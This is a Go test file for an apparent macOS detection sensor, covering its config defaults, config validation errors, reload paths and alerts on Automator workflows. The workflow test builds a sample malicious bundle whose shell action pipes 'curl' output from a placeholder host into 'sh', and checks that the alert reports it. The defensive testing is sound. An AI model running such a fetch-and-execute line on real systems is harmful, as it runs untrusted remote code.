package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/macsensor/macsensor/detect"
	"github.com/macsensor/macsensor/sensor/ecs"
)

func TestFilesReloadWorkflowDefaults(t *testing.T) {
	c := defaultConfig("darwin", "")
	if f := c.Files; f.Enabled || !f.DefaultPaths || len(f.Paths) != 0 || f.MaxDescriptors != 512 ||
		time.Duration(f.Settle) != 100*time.Millisecond || time.Duration(f.Rescan) != 10*time.Second {
		t.Errorf("[files] defaults %+v", f)
	}
	if r := c.Reload; !r.Watch || time.Duration(r.Quiet) != 500*time.Millisecond {
		t.Errorf("[reload] defaults %+v", r)
	}
	if !c.Workflow.Enabled {
		t.Errorf("[workflow] defaults %+v", c.Workflow)
	}
}

func TestFilesConfigErrorsNameTheKey(t *testing.T) {
	cases := []struct{ text, want string }{
		{"[files]\nenable = true\n", "files.enable: unknown key"},
		{"[files]\nmax_descriptors = 0\n", "files.max_descriptors: must be between 1 and 100000, not 0"},
		{"[files]\nsettle = \"0s\"\n", "files.settle: must be between 1ms and 10s"},
		{"[files]\nrescan = \"10ms\"\n", "files.rescan: must be between 100ms and 1h"},
		{"[files]\npaths = [\"Library/LaunchAgents\"]\n", `files.paths: "Library/LaunchAgents" is not an absolute path`},
		{"[reload]\nquiet = \"1ms\"\n", "reload.quiet: must be between 10ms and 1m"},
		{"[reload]\nwatch = \"yes\"\n", "reload.watch"},
		{"[workflow]\nenabled = 1\n", "workflow.enabled"},
	}
	for _, tc := range cases {
		dir := t.TempDir()
		p := writeFile(t, dir, "m.toml", tc.text)
		_, _, err := loadConfig("linux", dir, p, nil, false)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: error %v, want it to contain %q", tc.text, err, tc.want)
		}
	}
	// Managed preferences carry the same keys.
	dir := t.TempDir()
	c, _, err := loadConfig("linux", dir, "", map[string]any{"files": map[string]any{"enabled": true, "paths": []any{"/opt/x/*"}}, "reload": map[string]any{"watch": false}}, false)
	if err != nil || !c.Files.Enabled || !reflect.DeepEqual(c.Files.Paths, []string{"/opt/x/*"}) || c.Reload.Watch {
		t.Errorf("managed [files]/[reload]: %+v %+v, %v", c.Files, c.Reload, err)
	}
}

func TestReloadPaths(t *testing.T) {
	cfg := defaultConfig("linux", "/s")
	cfg.Rules.Exceptions = "/s/exceptions.toml"
	got := reloadPaths(runFlags{stateDir: "/s", rules: pathList{"/extra/rule.toml"}, managed: "/m/prefs.plist"}, cfg)
	want := []string{"/s/macsensor.toml", "/s/rules.d", "/extra/rule.toml", "/s/exceptions.toml", "/m/prefs.plist"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("reloadPaths = %q, want %q", got, want)
	}
	got = reloadPaths(runFlags{config: "/etc/m.toml", stateDir: "/s"}, defaultConfig("linux", "/s"))
	if want := []string{"/etc/m.toml", "/s/rules.d"}; !reflect.DeepEqual(got, want) {
		t.Errorf("reloadPaths = %q, want %q", got, want)
	}
}

// TestAlertWorkflow: an alert whose automator event names a workflow on disk
// carries macsensor.workflow; one whose events name none carries nothing.
func TestAlertWorkflow(t *testing.T) {
	dir := t.TempDir()
	bundle := filepath.Join(dir, "Evil.workflow")
	os.MkdirAll(filepath.Join(bundle, "Contents"), 0o755)
	doc := `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>AMDocumentVersion</key><string>2</string><key>actions</key><array>
<dict><key>action</key><dict><key>ActionName</key><string>Run Shell Script</string>
<key>ActionParameters</key><dict><key>COMMAND_STRING</key><string>curl -s http://x.invalid | sh</string><key>shell</key><string>/bin/bash</string></dict>
<key>BundleIdentifier</key><string>com.apple.RunShellScript</string></dict></dict>
</array></dict></plist>`
	os.WriteFile(filepath.Join(bundle, "Contents", "document.wflow"), []byte(doc), 0o644)

	rule, err := detect.SeedRule()
	if err != nil {
		t.Fatal(err)
	}
	start := &ecs.Event{Timestamp: 1e9, Has: ecs.HasTimestamp, Process: ecs.Process{Name: "automator", Executable: "/usr/bin/automator",
		Args: []string{"automator", bundle}}}
	runner := &ecs.Event{Timestamp: 2e9, Has: ecs.HasTimestamp, Process: ecs.Process{Name: "com.apple.automator.runner"}}
	a := &detect.Alert{Rule: rule, ID: "x", Timestamp: 2e9, Events: []*ecs.Event{start, runner}, LineCap: detect.DefaultLineCap}
	a.Extra = workflowJSON(a, nil)
	var out struct {
		Macsensor struct {
			Workflow struct {
				Path string `json:"path"`
				File struct {
					Hash struct {
						SHA256 string `json:"sha256"`
					} `json:"hash"`
				} `json:"file"`
				Actions []struct {
					BundleID string `json:"bundle_id"`
					Script   struct {
						Language, Interpreter, Source string
					} `json:"script"`
				} `json:"actions"`
				Error string `json:"error"`
			} `json:"workflow"`
		} `json:"macsensor"`
	}
	line := a.AppendJSON(nil)
	if err := json.Unmarshal(line, &out); err != nil {
		t.Fatalf("%v in %s", err, line)
	}
	w := out.Macsensor.Workflow
	if w.Path != bundle || len(w.File.Hash.SHA256) != 64 || len(w.Actions) != 1 || w.Error != "" ||
		w.Actions[0].BundleID != "com.apple.RunShellScript" || w.Actions[0].Script.Source != "curl -s http://x.invalid | sh" ||
		w.Actions[0].Script.Interpreter != "/bin/bash" {
		t.Errorf("macsensor.workflow = %+v in %s", w, line)
	}
	a2 := &detect.Alert{Rule: rule, ID: "y", Timestamp: 2e9, Events: []*ecs.Event{runner}}
	if x := workflowJSON(a2, nil); x != nil {
		t.Errorf("workflow of an alert naming none: %s", x)
	}
}
